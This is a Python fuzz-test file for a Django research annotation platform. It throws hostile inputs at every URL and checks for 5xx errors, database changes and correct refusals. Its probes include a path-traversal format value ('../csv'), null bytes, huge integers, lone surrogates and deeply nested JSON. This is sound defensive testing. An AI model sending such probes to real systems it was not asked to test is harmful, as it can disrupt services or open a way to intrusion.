        st.sampled_from(NUMBER_TEXTS + ODD_TEXTS + ["\ud800", "x\udfff"]),  # lone surrogates: only JSON carries them
        st.booleans(),
        st.none(),
        st.text(max_size=10),
    )
    return st.recursive(
        leaves,
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(FIELD_NAMES), inner, max_size=3),
        max_leaves=6,
    )


@dataclass
class Hostile:
    role: str
    method: str
    path_values: dict
    query: list
    body: str  # "none", "deep-json", "deep-payload", "json", "form"
    fields: dict


@st.composite
def hostile_requests(draw, keys: tuple[str, ...], roles: tuple[str, ...]) -> Hostile:
    return Hostile(
        role=draw(st.sampled_from(roles)),
        method=draw(st.sampled_from(["get", "post"])),
        path_values={
            key: draw(st.one_of(st.just("REAL"), st.sampled_from(NUMBER_TEXTS[:12] + ["abc", "1.0"]))) for key in keys
        },
        query=draw(st.lists(st.tuples(st.sampled_from(FIELD_NAMES), _text_values()), max_size=4)),
        body=draw(st.sampled_from(["none", "deep-json", "deep-payload", "json", "form"])),
        fields=draw(
            st.dictionaries(st.sampled_from(FIELD_NAMES), st.one_of(_json_values(), _text_values()), max_size=5)
        ),
    )


@dataclass
class Tally:
    requests: int = 0
    statuses: Counter = field(default_factory=Counter)
    problems: list = field(default_factory=list)

    def record(self, what: str, status: int | None, problem: str | None) -> None:
        self.requests += 1
        if status is not None:
            self.statuses[status] += 1
        if problem:
            self.problems.append(f"{what}: {problem}")


def _url(route: str, values: dict[str, str]) -> str:
    def fill(match: re.Match) -> str:
        return quote(values[match.group(2)], safe="")

    return "/" + CONVERTER.sub(fill, route)


def _real_values(pattern, world, route) -> dict[str, str]:
    if pattern.route.startswith("admin/"):
        resolved = admin_url(pattern)
        match = resolve(resolved)
        return {key: str(value) for key, value in match.kwargs.items()}
    return {key: str(value) for key, value in route.kwargs(world).items()}


CSRF_SECRET = "k" * 32


def _browser_for(role: str, world) -> Client:
    """As a browser is: CSRF enforced, with its token (the body must not be read before that check)."""
    client = Client(enforce_csrf_checks=True, raise_request_exception=False)
    if role != "anonymous":
        client.force_login(world.users[role])
    client.cookies["csrftoken"] = CSRF_SECRET
    return client


def _send(client: Client, method: str, url: str, body: str, fields: dict, world) -> object:
    headers = {"X-CSRFToken": CSRF_SECRET}
    if method == "get":
        return client.get(url)
    if body == "deep-json":
        deep = DEEP_ARRAY if len(url) % 2 else DEEP_OBJECT
        return client.post(url, data=deep, content_type="application/json", headers=headers)
    if body == "deep-payload":
        return client.post(url, data={"payload": DEEP_OBJECT, "csrfmiddlewaretoken": CSRF_SECRET})
    if body == "json":
        data = {"page_id": str(world.visit.page_id), **fields} if isinstance(fields, dict) else fields
        return client.post(url, data=json.dumps(data), content_type="application/json", headers=headers)
    if body == "form":
        form = {key: _form_value(value) for key, value in fields.items()}
        form = {key: value for key, value in form.items() if value is not None}
        return client.post(url, data={**form, "csrfmiddlewaretoken": CSRF_SECRET})
    return client.post(url, headers=headers)


def _form_value(value):
    """A form field's value; None for text UTF-8 cannot carry (a lone surrogate: only JSON can say it)."""

    def encodable(text: str) -> bool:
        try:
            text.encode("utf-8")
        except UnicodeEncodeError:
            return False
        return True

    if hasattr(value, "read"):  # an uploaded file, as the route sends it
        return value
    if isinstance(value, list) and all(isinstance(item, str | int) for item in value):
        items = [str(item) for item in value]
        return items if all(encodable(item) for item in items) else None
    if isinstance(value, str):
        return value if encodable(value) else None
    return json.dumps(value)


def _try(world, tally: Tally, *, role: str, method: str, url: str, body: str, fields: dict, expect=None) -> None:
    client = _browser_for(role, world)
    what = f"{method.upper()} {url[:120]} as {role} ({body})"
    status = problem = None
    with transaction.atomic():
        try:
            response = _send(client, method, url, body, fields, world)
            status = response.status_code
            if getattr(response, "streaming", False):
                b"".join(response.streaming_content)  # a stream can fail after its headers
            if status >= 500:
                problem = f"{status}"
            elif expect is not None and not matches(response, expect):
                problem = f"{status}, expected {expect!r} (the refusal it gets with a well-formed body)"
            elif status >= 400 and snapshot() != world.state:
                problem = f"refused with {status}, yet the database changed"
        except DatabaseError as exc:  # the request left the transaction unusable: a database error escaped
            problem = f"database error {type(exc).__name__}: {str(exc)[:200]}"
        except Exception as exc:  # noqa: BLE001 - a crash while streaming is a 500 the client never sees
            problem = f"{type(exc).__name__}: {str(exc)[:200]}"
        transaction.set_rollback(True)
    tally.record(what, status, problem)


EXAMPLES_PER_URL = 6
EXAMPLES_PER_ADMIN_URL = 2
# The probes: each query parameter the view reads, and each value of the body a well-formed request
# sends, replaced in turn by each of these, sent by the roles the URL serves.
QUERY_PROBES = ["99999999999999999999", "²", "1e308", "-1", "a\x00b"]
JSON_PROBES = [2**63, 1e308, -1, "\ud800", json.loads(DEEP_ARRAY[:120] + DEEP_ARRAY[-120:])]
FORM_PROBES = ["99999999999999999999", "1e308", "-1", "\x00"]


def _served_roles(route, method: str) -> list[str]:
    """Up to two roles the URL serves (annotator A for the annotator's side, the most privileged other)."""
    table = route.get if method == "get" else route.post
    served = [role for role in ROLES if not refused(table[role]) and table[role] != 405]
    return list(dict.fromkeys(role for role in ("annotator_a", *reversed(served)) if role in served))[:2]


@contextmanager
def query_names_read() -> Iterator[set[str]]:
    """The names a view looks up in a QueryDict (request.GET, request.POST, DRF's query_params)."""
    names: set[str] = set()
    originals = {name: getattr(QueryDict, name) for name in ("__getitem__", "__contains__", "get", "getlist")}

    def recording(method):
        def read(self, key, *args, **kwargs):
            names.add(key)
            return method(self, key, *args, **kwargs)

        return read

    for name, method in originals.items():
        setattr(QueryDict, name, recording(method))
    try:
        yield names
    finally:
        for name, method in originals.items():
            setattr(QueryDict, name, method)


def _leaves(value, path: tuple = ()) -> Iterator[tuple]:
    if isinstance(value, dict) and value:
        for key, inner in value.items():
            yield from _leaves(inner, (*path, key))
    elif isinstance(value, list) and value:
        for index, inner in enumerate(value):
            yield from _leaves(inner, (*path, index))
    else:
        yield path


def _replaced(value, path: tuple, new):
    if not path:
        return new
    copy = dict(value) if isinstance(value, dict) else list(value)
    copy[path[0]] = _replaced(value[path[0]], path[1:], new)
    return copy


def _probe(world, tally: Tally, pattern, route) -> None:
    url = reverse(pattern.name, kwargs=route.kwargs(world))
    for role in _served_roles(route, "get"):
        client = _browser_for(role, world)
        with query_names_read() as names, transaction.atomic():
            client.get(url + route.query)
            transaction.set_rollback(True)
        base = dict(parse_qsl(route.query.lstrip("?")))
        for name in sorted(name for name in names if isinstance(name, str) and name != "csrfmiddlewaretoken"):
            for value in QUERY_PROBES:
                query = urlencode({**base, name: value})
                _try(world, tally, role=role, method="get", url=f"{url}?{query}", body="none", fields={})
    for role in _served_roles(route, "post"):
        data = route.data(world)
        if not isinstance(data, dict):
            continue
        if route.json:
            for path in _leaves(data):
                for value in JSON_PROBES:
                    _try(world, tally, role=role, method="post", url=url, body="json",
                         fields=_replaced(data, path, value))  # fmt: skip
        else:
            for key in [key for key, value in data.items() if not hasattr(value, "read")]:
                for value in FORM_PROBES:
                    fields = {**route.data(world), key: value}  # a fresh upload each time: a file is read once
                    _try(world, tally, role=role, method="post", url=url, body="form", fields=fields)


def _hostile_run(pattern, real: dict[str, str], world, tally: Tally) -> None:
    admin_site = pattern.route.startswith("admin/")

    @settings(
        max_examples=EXAMPLES_PER_ADMIN_URL if admin_site else EXAMPLES_PER_URL,
        deadline=None,
        database=None,
        derandomize=True,
        phases=[Phase.explicit, Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(request=hostile_requests(pattern.keys, ("admin",) if admin_site else ROLES))
    def hostile(request: Hostile) -> None:
        values = {key: real[key] if value == "REAL" else value for key, value in request.path_values.items()}
        url = _url(pattern.route, values)
        if request.query:
            url += "?" + urlencode(request.query)
        _try(world, tally, role=request.role, method=request.method, url=url, body=request.body, fields=request.fields)

    hostile()


def test_no_url_answers_hostile_input_with_a_5xx_or_a_change():
    world = build_world()
    tally = Tally()
    patterns = list(url_patterns())
    for pattern in patterns:
        admin_site = pattern.route.startswith("admin/")
        route = None if admin_site else ROUTES[pattern.name]
        real = _real_values(pattern, world, route)
        # Permission before parsing: a role the endpoint refuses gets the same refusal whatever the body holds.
        if not admin_site:
            url = reverse(pattern.name, kwargs=route.kwargs(world))
            for role in ROLES:
                expected = route.post[role]
                for body in ("deep-json", "deep-payload"):
                    _try(world, tally, role=role, method="post", url=url, body=body, fields={},
                         expect=expected if refused(expected) else None)  # fmt: skip
            _probe(world, tally, pattern, route)

        _hostile_run(pattern, real, world, tally)
    fivexx = sum(count for status, count in tally.statuses.items() if status >= 500)
    print(
        f"hostile input: {tally.requests} requests over {len(patterns)} URL patterns, {fivexx} answered 5xx, "
        f"{len(tally.problems)} problems; statuses {dict(sorted(tally.statuses.items()))}"
    )
    assert not tally.problems, f"{len(tally.problems)} problems:\n" + "\n".join(tally.problems[:200])


# ------------------------------------------------------------- the event log's export and erasure (issue 22)

EVENT_FORMAT_NAMES = ("csv", "jsonl", "parquet", "idfx", "critt-kd")
FLAG_TEXTS = ("1", "0", "true", "false", "on", "off", "", "TRUE", " on ")


def _flag_ok(value: str) -> bool:
    return value.strip().lower() in FLAG_TEXTS


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    fmt=st.one_of(st.sampled_from([*EVENT_FORMAT_NAMES, "CSV", "xlsx", "../csv", "csv\x00", "idfx" * 500]),
                  st.text(max_size=10)),
    flags=st.tuples(*[st.one_of(st.sampled_from([*FLAG_TEXTS, "inf", "NaN", "1e309", "-1", "２", "\x00"]),
                                st.text(max_size=6))] * 2),
)  # fmt: skip
def test_the_event_export_api_refuses_bad_formats_and_flags_by_name(researcher_client, fmt, flags):
    project = SubmittedPostEditFactory().assignment.item.project
    include_practice, with_text = flags
    url = reverse("api-project-events", kwargs={"project_id": project.pk})
    response = researcher_client.get(url, {"format": fmt, "include_practice": include_practice, "with_text": with_text})
    bad = {
        name
        for name, ok in (
            ("format", fmt in ("", *EVENT_FORMAT_NAMES)),  # an empty query value is the default, csv
            ("include_practice", _flag_ok(include_practice)),
            ("with_text", _flag_ok(with_text)),
        )
        if not ok
    }
    if not bad:
        assert response.status_code == 200
        b"".join(response.streaming_content)
        return
    assert response.status_code == 400
    body = response.json()
    assert set(body["errors"]) == bad and body["detail"].startswith(tuple(bad)), body


def test_the_event_export_api_answers_huge_ids_and_deep_json_without_a_crash(researcher, researcher_client):
    project = SubmittedPostEditFactory().assignment.item.project
    for project_id in (2**31, 2**63, 10**20):
        response = researcher_client.get(f"/api/projects/{project_id}/events/export/?format=csv")
        assert response.status_code == 404, project_id
    for id_text in ("²", "1e3", "-1", "%00"):
        assert researcher_client.get(f"/api/projects/{id_text}/events/export/").status_code == 404
    before = snapshot()
    url = reverse("api-project-events", kwargs={"project_id": project.pk})
    for body in (DEEP, DEEP_OBJECT):
        response = _post_json(_browser(researcher), url, body)  # a GET-only endpoint: 405, the body never read
        assert response.status_code == 405 and response.json()["code"] == "method_not_allowed"
    assert snapshot() == before


def test_participant_erasure_refuses_huge_and_foreign_ids_and_deep_bodies_erasing_nothing(admin_user, researcher):
    from tests.annotations.test_erasure import _participant, _submitted

    project, elsewhere = ProjectFactory(name="crowd"), ProjectFactory(name="elsewhere")
    leaving, foreign = _participant(project, 0), _participant(elsewhere, 1)
    _submitted(leaving, "s1")
    _submitted(foreign, "s2")
    before = snapshot()
    admin = _browser(admin_user)
    for project_id, participant_id in (
        (project.pk, 10**20), (project.pk, 2**63), (10**20, leaving.pk), (project.pk, foreign.pk),
    ):  # fmt: skip
        url = f"/manage/projects/{project_id}/participants/{participant_id}/erase/"
        assert admin.get(url).status_code == 404, url
        assert admin.post(url, {"csrfmiddlewaretoken": "t" * 32}).status_code == 404, url
    erase = reverse("manage-participant-erase", kwargs={"project_id": project.pk, "participant_id": leaving.pk})
    for body in (DEEP, DEEP_OBJECT):
        assert _post_json(_browser(researcher), erase, body).status_code == 403
        assert admin.post(erase, data=body, content_type="application/json").status_code == 403  # no CSRF token
    assert snapshot() == before
    assert EditEvent.objects.filter(post_edit__assignment__annotator=leaving.user).count() == 11


THRESHOLD_ITEMS = st.one_of(
    st.sampled_from(["nan", "NaN", "inf", "-inf", "Infinity", "1e309", "-200", "0", "-0", "3600001", "1e400", "",
                     " ", "1_000", "0x10", "²", "１０", "\x00", "500", "1000", "3600000", "0.5"]),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.text(max_size=5),
)  # fmt: skip


def _threshold_ok(item: str) -> float | None:
    try:
        value = float(item.strip())
    except ValueError:
        return None
    return value if math.isfinite(value) and 0 < value <= 3_600_000 else None


@settings(max_examples=80, deadline=None)
@given(items=st.lists(THRESHOLD_ITEMS, min_size=1, max_size=22))
def test_pause_thresholds_are_a_finite_positive_set_or_refused_by_name(items):
    from metrics.analysis_options import SelectionError, analysis_options_check

    text = ",".join(items)
    values = [_threshold_ok(item) for item in items]
    valid = (
        bool(text.strip()) and "\x00" not in text and len(items) <= 20
        and None not in values and len(set(values)) == len(values)
    )  # fmt: skip
    try:
        checked = analysis_options_check({"target": "pause_count@1000", "pause_thresholds": text})
    except SelectionError as refusal:
        assert not valid and str(refusal).startswith("pause_thresholds"), (text, str(refusal))
        return
    assert valid or not text.strip(), text  # an empty value reads as the defaults on the API and the page
    assert all(math.isfinite(t) and 0 < t <= 3_600_000 for t in checked["pause_thresholds"])
    if valid:
        assert list(checked["pause_thresholds"]) == sorted(values)
